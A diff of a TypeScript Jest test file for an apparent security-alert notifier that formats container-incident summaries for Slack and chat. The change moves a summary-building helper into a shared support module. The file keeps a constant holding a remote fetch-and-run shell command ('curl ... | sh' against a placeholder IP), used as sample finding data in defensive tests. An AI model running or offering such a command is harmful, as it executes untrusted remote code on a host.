@@ -4,41 +4,15 @@
 // the messages stay inside the platforms' limits whatever the summary holds.
 import { describe, expect, it } from '@jest/globals';
 import { formatChat, type ChatMessage } from '../src/core/chat-format.ts';
-import { decodeInput } from '../src/core/envelope.ts';
 import type { ActionOutcome } from '../src/core/outcome.ts';
-import { plan as makePlan } from '../src/core/plan.ts';
-import { ACTION_ORDER, validatePolicy, type Policy } from '../src/core/policy.ts';
-import type { EvidenceReport } from '../src/core/ports.ts';
+import { ACTION_ORDER, validatePolicy } from '../src/core/policy.ts';
 import { cutChatLine, cutSlackLine, fitLines, wireBytes } from '../src/core/sink-text.ts';
 import { formatSlack, type SlackMessage } from '../src/core/slack-format.ts';
-import { buildSummary, findingKey, type Summary } from '../src/core/summary.ts';
+import type { Summary } from '../src/core/summary.ts';
 import { notificationV1 } from './support/fixtures.ts';
+import { summaryFor } from './support/summaries.ts';
 
-const NOW = new Date('2026-11-20T14:03:40.000Z');
 const CHILD_COMMAND = 'curl -s http://203.0.113.7/x.sh | sh';
-
-function summaryFor(
-  notification: Record<string, any>,
-  options: { policy?: Policy; outcomes?: ActionOutcome[]; evidence?: EvidenceReport | null; warnings?: string[] } = {},
-): Summary {
-  const policy = options.policy ?? validatePolicy({ dryRun: false, rules: [{ name: 'contain', actions: ['label-pod', 'isolate-pod', 'delete-pod'] }] });
-  const decoded = decodeInput(notification);
-  const plan = makePlan(decoded, policy, NOW);
-  return buildSummary({
-    key: findingKey(decoded.notification.finding),
-    plan,
-    finding: decoded.notification.finding,
-    containment: {
-      outcomes: options.outcomes ?? plan.actions.map((a) => ({ type: a.type, status: 'done', reason: 'ok' })),
-      snapshots: {},
-      warnings: options.warnings ?? [],
-    },
-    evidence: options.evidence ?? null,
-    policy,
-    timings: { receivedAt: NOW },
-    now: NOW,
-  });
-}
 
 const slackTexts = (m: SlackMessage) =>
   m.blocks.flatMap((b) => (b.type === 'section' ? [b.text?.text ?? '', ...(b.fields ?? []).map((f) => f.text)] : b.type === 'context' ? b.elements.map((e) => e.text) : []));
